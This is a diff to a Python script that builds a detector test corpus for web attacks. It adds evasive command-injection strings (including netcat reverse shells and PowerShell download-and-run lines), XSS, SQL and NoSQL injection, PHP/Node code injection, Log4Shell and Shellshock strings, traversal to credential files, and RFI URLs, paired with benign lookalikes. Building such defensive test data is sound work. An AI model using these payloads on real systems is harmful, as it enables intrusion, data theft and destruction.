@@ -1209,6 +1209,123 @@ def round6():
     return xss, code
 
 
+# ---- seventh round (issue 21, the OWASP CRS's regression tests as a
+# third held-out set, README): the classes it showed missing, written
+# from each language's grammar, not taken from those tests. cmd.exe's FOR
+# and IF statements; words split by what the shell removes (quotes,
+# empty substitutions, special parameters) or spelled with wildcards or
+# brace expansion; netcat handing out a shell; PowerShell's download
+# cmdlets; SMTP verbs on a line of their own; commands and system files
+# in a Referer or User-Agent. XSS: namespaced script elements, UTF-7,
+# XBL and HTC bindings, tagged templates, a sink call as the whole value,
+# markup in a Referer. SQL: SQLite's GLOB, PostgreSQL's casts and large
+# objects, MongoDB operators, a statement closed by a comment. Code: PHP
+# called through variables, strings and groups, Smarty's {php}, Node.js's
+# loader and prototype pollution, Perl's @{[ ]}, ASP/ERB blocks, TeX's
+# file primitives. Files: system files reached through a path prefix
+# (Vite's /@fs/), logs left in the web root, a URL handed to an include
+# key of a PHP array. Benign twins: contractions, lists in braces, prose
+# with "if", "for ... in", casts of other languages, and calls a search
+# box holds.
+rnd7 = random.Random(2026120707)
+
+CMDI_R7 = [
+    'for /f "delims=" %i in (\'whoami\') do echo %i', "FOR %x IN (a b c) DO del %x",
+    "for /l %n in (1,1,9) do ping -n 1 10.0.0.%n", "&for /d %d in (c:\\*) do dir %d",
+    "if exist c:\\windows\\win.ini type c:\\windows\\win.ini", "IF NOT DEFINED x SET x=1",
+    "if %errorlevel% neq 0 exit /b 1", 'if /i "%1"=="go" goto run', "IF ERRORLEVEL 1 ECHO failed",
+    'w"h"oami', "'u'name -a", "c'a't /etc/hosts", 'ifc""onfig', "who``ami", "una$()me -a",
+    ";c$@a$!t /e$?tc/pa$-sswd", ";who$_ami", ";/b??/c?t /e??/p?sswd", "|/???/b??h -c id",
+    "/bi*/un?me -a", "w{ho,}ami", "{,whoami}", "{un,}ame -a",
+    ";nc 203.0.113.9 4444 -e /bin/bash", "|ncat 198.51.100.7 9001 -e cmd.exe", "&& nc -lvnp 8080 -e sh",
+    ";iwr -uri http://203.0.113.5/a.ps1 -outfile a.ps1",
+    "|iex (New-Object Net.WebClient).DownloadString('http://203.0.113.5/y')",
+    "Invoke-Expression $env:payload", "x\r\nMAIL FROM:<a@example.com>", "y\nRCPT TO:<victim@example.org>",
+    "z\r\nHELO mail.example.net",
+]
+CMDI_R7_HEADERS = ["REF:cat /etc/shadow", "REF:x.example.com;id", "REF:/bin/sh -c id",
+                   "UA:ping -c 3 198.51.100.1;uname -a", "REF:www.example.com;c$!at /et$?c/hosts"]
+TRAV_R7_HEADERS = ["UA:/etc/shadow", "REF:/proc/self/environ", "UA:../../../../etc/passwd",
+                   "/@fs/etc/passwd", "/@fs/etc/shadow?import", "/static/proc/self/environ"]
+SENS_R7 = ["/wp-content/debug.log", "/app/logs/errors.log", "/storage/logs/error.log", "/cgi-bin/error_log"]
+RFI_R7 = ["/plugins/spam.php?_CONF[path]=https://203.0.113.4/x", "/index.php?cfg[include]=http://198.51.100.2/a",
+          "/modules/m.php?settings[template]=ftp://203.0.113.9/t"]
+
+XSS_R7 = [
+    '<h:script xmlns:h="http://www.w3.org/1999/xhtml">alert(7)</h:script>', "<svg:script>prompt(2)</svg:script>",
+    "<ns0:iframe src=javascript:alert(3)>", "+ADw-img src=x onerror=alert(1)+AD4-",
+    "+ADw-/title+AD4-+ADw-script+AD4-alert(9)+ADw-/script+AD4-",
+    '<div style="-moz-binding:url(//evil.example/x.xml#y)">', "x{behavior: url(#default#time2)}",
+    "[].map.call`${alert}7`", "Reflect.apply.call`${eval}`", "alert(document.domain)", "prompt(8)",
+    "confirm(document.cookie)", "setTimeout('alert(1)',0)", "eval(atob('YWxlcnQoMSk='))",
+    '<?import namespace="t" implementation="#default#time2">',
+]
+XSS_R7_HEADERS = ["REF:https://ads.example.net/<script>alert(5)</script>",
+                  'REF:http://x.example/"><svg onload=alert(1)>']
+
+SQLI_R7 = [
+    "x' or name glob '*'--", "') or id glob 1--", "1 and (select current_database())::int=1", "x'::int",
+    "(select string_agg(usename,','))::integer", "lo_get(31337)", "1;select lo_export(1,'/tmp/x')",
+    "DROP TABLE orders;--", "delete from sessions;#", "truncate audit_log;-- -",
+]
+SQLI_R7_RAW = ["/login?user[$ne]=1&pass[$ne]=1", "/api/login?password[$gt]=", "/login?username[$regex]=^adm",
+               "/api/find?filter=%7B%22%24where%22%3A%22sleep(100)%22%7D", "/api/v1/account?email[$ne]=x"]
+
+CODE_R7 = [
+    "(exec)('ls')", "['sys'.'tem'][0]('id')", "$x='pass'.'thru';$x('id');", "$_[0]($_[1])", "${__}(7)",
+    "(/**/passthru)(id)", "\"shell_exec\"('id')", "{php}system('id');{/php}", "<? php system(\"id\"); ?>",
+    "<?passthru('ls');", "require('child_process').execSync('id')",
+    "this.constructor.constructor('return process')()", "process.mainModule.require('fs')",
+    "@{[ `id` ]}", '@{[system "uname -a"]}', '<% exec("cmd") %>', "\\input{/etc/hosts}",
+    "\\immediate\\write18{id}", "\\openin5=/etc/passwd",
+]
+CODE_R7_RAW = ["/api/user?__proto__[isAdmin]=true", "/x?constructor[prototype][polluted]=1",
+               "/y?__proto__.toString=1", "/z?a[constructor][prototype][x]=1"]
+EXPLOIT_R7 = ["/?x=" + q("${:-x$}{jndi:ldap://h.example/a}"), "UA:" + "${::-x$}{jndi:rmi://h.example/b}",
+              "/cgi-bin/status?x=" + q("() {"), "UA:() {"]
+
+BENIGN_R7 = [
+    "/search?q=I%27d+like+to+know", "/search?q=they%27d+say+so", "/search?q=O%27Keefe%27s+paintings",
+    "/search?q=we%27d+id+it", "/api/items?fields={id,name}", "/search?q={red,green,blue}",
+    "/search?q=sizes+{s,m,l}", "/api/v1/users?include={id,email,dir}",
+    "/search?q=for+each+item+in+(cart)+do+checkout", "/search?q=what+to+do+if+not+defined",
+    "/search?q=fix+crash+if+x%3D%3DNULL+return", "/search?q=if+a%3D%3Db+then", "/search?q=if+exist+meaning",
+    "/search?q=cast+to+int+in+C%2B%2B+std::string", "/search?q=Foo::Text", "/search?q=price+%24x+(approx)",
+    "/search?q=%24PATH+(unix)", "/search?q=GC_log_printf(%22%22)+(not+needed)", "/search?q=nc+-e+option+removed",
+    "/search?q=constructor+function+in+javascript", "/search?q=child+process+node+tutorial",
+    "/search?q=confirm(order)+email", "/search?q=alert(s)+settings", "/search?q=prompt(engineering)+course",
+    "/search?q=%22%23include+%3Cstdio.h%3E%22", "/search?q=%27%23define+DEBUG%27+flag",
+    "/search?q=see+(%60%232706+%3Chttps%3A%2F%2Fexample.org%2Fpull%2F2706%3E%60_)",
+    "/search?q=mail+from:+support", "/search?q=helo+kitty", "/search?q=drop+table+lamp",
+    "/search?q=update+firmware;", "/search?q=behavior+url+of+links", "/search?q=%24_+in+perl",
+    "/search?q=%60%60NL%60%60+token", "/search?q=replace+%60%60make+touch%60%60+with",
+    "/search?q=the+%60%60test%60%60+command", "/search?q=%40%7Bname%7D+placeholder",
+    "/search?q=%5Cinput+latex", "/search?q=prototype+design", "/search?q=__proto__+vs+prototype",
+    "/search?q=%2F%3F%3F%3F%2F+pattern", "/search?q=while(true)+loop", "/search?q=c%27mon+guys",
+    "/blog/debug-logging-tips", "/catalog/error-log-book", "/api?filter[url]=https://example.com/page",
+    "/docs/etc-passwd-format", "/search?q=/etc/passwd+format", "/a?links[home]=https://example.org/",
+    "/api/users?age[$gt]=18", "/api/articles?filters[title][$eq]=news", "/api/items?price[$gt]=0",
+    "/api/v1/items?fields={id,name,}", "/search?q=%5Cw%7B2,%7D+regex", "/search?q=hi%0Amail+from:+bob+bounced",
+    "/search?q=files+in+/usr/bin/*", "/search?q=nasdaq+%26+iex", "/search?q=i%27d+do+anything",
+    "/search?q=(i%27d+say+yes)", "/search?q=%5Bsystem+requirements%5D(/docs)", "/search?q=%24f(x)%24+is+continuous",
+    "/search?q=hotels+for+me+in+(london)+do+you+know", "/search?q=if+defined+benefit+(for+example)+plans",
+    "/search?q=child_process+exec+example", "/search?q=object+constructor.prototype", "/search?q=alert()+not+working",
+    "/img?image[src]=https://cdn.example.com/a.png", "/blog?post[body]=https://example.org/x",
+]
+
+
+def round7():
+    cmdi = r2_lines(CMDI_R7, [e_plain, e_pct, e_double, e_form], ["ip", "host", "cmd", "q"])
+    cmdi += CMDI_R7_HEADERS
+    xss = r2_lines(XSS_R7, [e_plain, e_pct, e_double, e_form], ["q", "name", "title", "cb"])
+    xss += XSS_R7_HEADERS
+    sqli = r2_lines(SQLI_R7, [e_plain, e_pct, e_double, e_form], ["id", "q", "sort", "user"])
+    sqli += SQLI_R7_RAW
+    code = r2_lines(CODE_R7, [e_plain, e_pct, e_double, e_form], ["q", "x", "tpl", "eval"])
+    code += CODE_R7_RAW
+    return cmdi, xss, sqli, code, TRAV_R7_HEADERS, EXPLOIT_R7, SENS_R7, RFI_R7
+
+
 def benign_lines():
     out = list(TRICKY)
     for name in NAMES + WORDS_JA + WORDS_DE + WORDS_FR:
@@ -1297,6 +1414,13 @@ def main():
     for path, extra in (("attacks/xss.txt", xss6), ("attacks/code-injection.txt", code6),
                         ("benign.txt", BENIGN_R6)):
         append(path, extra, header6)
+    header7 = "seventh round (issue 21, the CRS regression tests: batch, shell evasions, headers, PHP and Node calls)"
+    cmdi7, xss7, sqli7, code7, trav7, exploit7, sens7, rfi7 = round7()
+    for path, extra in (("attacks/cmdi.txt", cmdi7), ("attacks/xss.txt", xss7), ("attacks/sqli.txt", sqli7),
+                        ("attacks/code-injection.txt", code7), ("attacks/traversal.txt", trav7),
+                        ("attacks/exploit.txt", exploit7), ("attacks/sensitive-file.txt", sens7),
+                        ("attacks/rfi.txt", rfi7), ("benign.txt", BENIGN_R7)):
+        append(path, extra, header7)
 
 
 if __name__ == "__main__":
